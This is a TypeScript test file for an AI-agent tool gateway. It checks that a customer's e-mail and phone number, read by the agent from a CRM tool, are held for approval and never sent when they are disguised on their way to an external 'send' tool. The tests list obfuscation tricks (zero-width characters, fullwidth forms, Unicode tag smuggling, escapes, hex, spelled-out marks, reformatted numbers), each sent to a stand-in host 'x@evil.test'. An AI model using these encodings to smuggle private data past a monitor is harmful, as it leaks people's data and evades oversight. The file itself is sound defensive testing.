/**
 * Recognising a private value on its way out, dressed up past what
 * data-flow.test.ts covers: hidden characters inside it, fullwidth forms,
 * escapes an encoder leaves, hex with separators, the marks spelled out, a
 * phone number without its country code or with other separators, a number
 * argument, text smuggled in Unicode tags, a key of an open map. The hold fires on what the run
 * read whatever the arguments hold; each case checks that the approval also
 * names the argument holding the value, and that nothing was sent. Real
 * stdio upstreams (test/fixtures/schema-server.ts) record what they receive.
 */
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { tagSmuggle } from '../fixtures/hostile-content.js';
import { denyApproval, pendingFor } from '../helpers/approvals.js';
import { denialCode, recorded, startTestGateway, type TestGateway, tempDir } from '../helpers/harness.js';
import { resultUpstream } from '../helpers/result-upstream.js';
import { schemaUpstream } from '../helpers/schema-upstream.js';

const dir = tempDir();
const RECORD = join(dir, 'received.jsonl');
const EMAIL = 'dana.whitfield@customer.example';
const CUSTOMER = `Customer: Dana Whitfield <${EMAIL}>, +1 415 555 0142`;

const LOOKUP = { name: 'lookup', inputSchema: { type: 'object', properties: { id: { type: 'string' } } } };
const SEND = {
  name: 'send',
  inputSchema: {
    type: 'object',
    properties: {
      to: { type: 'string' },
      body: { type: 'string' },
      n: { type: 'number' },
      meta: { type: 'object', additionalProperties: { type: 'number' } },
    },
  },
};

/** A private export that answers with the record as an embedded CSV blob, not as text. */
const EXPORT = {
  export: {
    content: [
      {
        type: 'resource',
        resource: {
          uri: 'crm://export.csv',
          mimeType: 'text/csv',
          blob: Buffer.from(`name,email\nDana Whitfield,${EMAIL}\n`).toString('base64'),
        },
      },
    ],
  },
};

const POLICY = `
version: 1
store: { sqlite: ./bulkhead.db }
upstreams:
${schemaUpstream('crm', [LOOKUP], { replies: { lookup: CUSTOMER }, extra: ['sources: private'] })}
${schemaUpstream('out', [SEND], { record: RECORD })}
${resultUpstream('exports', { tools: EXPORT, extra: ['sources: private'] })}
tools:
  crm:
    lookup: { class: read }
  out:
    send:
      class: external
      arguments:
        meta: { additional_properties: true }
  exports:
    export: { class: read }
profiles:
  agent:
    tools: [crm__lookup, out__send, exports__export]
`;

let gw: TestGateway;
beforeAll(async () => {
  gw = await startTestGateway(POLICY, { dir });
});
afterAll(async () => {
  await gw?.close();
});
beforeEach(() => rmSync(RECORD, { force: true }));

const hex = (text: string) => Buffer.from(text, 'utf8').toString('hex');
const fullwidth = (text: string) =>
  [...text].map((c) => (c > ' ' && c <= '~' ? String.fromCodePoint(c.charCodeAt(0) + 0xfee0) : c)).join('');

const cases: [string, Record<string, unknown>, string][] = [
  [
    'a zero-width space and a soft hyphen inside the address',
    { body: 'dana\u200b.whitfield\u00ad@customer.example' },
    '/body holds an e-mail address',
  ],
  ['the address in fullwidth forms', { body: fullwidth(EMAIL) }, '/body holds an e-mail address'],
  [
    'the address smuggled in Unicode tags',
    { body: `hello${tagSmuggle(EMAIL)}` },
    '/body holds an e-mail address',
  ],
  [
    'the address as \\u escapes',
    { body: [...EMAIL].map((c) => `\\u00${c.charCodeAt(0).toString(16)}`).join('') },
    '/body holds an e-mail address',
  ],
  [
    'the address as HTML character references',
    { body: [...EMAIL].map((c) => `&#${c.charCodeAt(0)};`).join('') },
    '/body holds an e-mail address',
  ],
  [
    'the address as hex pairs with colons',
    { body: hex(EMAIL).match(/../g)?.join(':') ?? '' },
    '/body holds an e-mail address',
  ],
  [
    'the address with its marks spelled out',
    { body: 'dana.whitfield [at] customer [dot] example' },
    '/body holds an e-mail address',
  ],
  [
    'the phone number without its country code',
    { body: 'call (415) 555-0142' },
    '/body holds a phone number',
  ],
  ['the phone number with slashes', { body: '415/555/0142' }, '/body holds a phone number'],
  ['the phone number as a number argument', { n: 4155550142 }, '/n holds a phone number'],
  ['the address as a key of an open map', { meta: { [EMAIL]: 1 } }, '/meta (a key) holds an e-mail address'],
];

describe('a private value received in an embedded blob', () => {
  it('is recognised when it leaves', async () => {
    const agent = await gw.agent('agent');
    await agent.client.callTool({ name: 'exports__export', arguments: {} });
    const call = agent.client.callTool({ name: 'out__send', arguments: { to: EMAIL } });
    const approval = await pendingFor(gw.gateway, agent.runId);
    expect(approval.why).toContain('/to holds an e-mail address from exports__export');
    await denyApproval(gw.gateway, approval);
    expect(denialCode(await call)).toBe('approval_denied');
    expect(recorded(RECORD)).toEqual([]);
  });
});

describe('a private value dressed up on its way to an external sink', () => {
  for (const [name, args, said] of cases) {
    it(`names ${name} on the approval, and nothing is sent`, async () => {
      const agent = await gw.agent('agent');
      await agent.client.callTool({ name: 'crm__lookup', arguments: { id: 'c1' } });
      const call = agent.client.callTool({ name: 'out__send', arguments: { to: 'x@evil.test', ...args } });
      const approval = await pendingFor(gw.gateway, agent.runId);
      expect(approval.why).toContain('private data from crm__lookup');
      expect(approval.why).toContain(`${said} from crm__lookup`);
      expect(approval.why).not.toContain(EMAIL);
      await denyApproval(gw.gateway, approval);
      expect(denialCode(await call)).toBe('approval_denied');
      expect(recorded(RECORD)).toEqual([]);
    });
  }
});
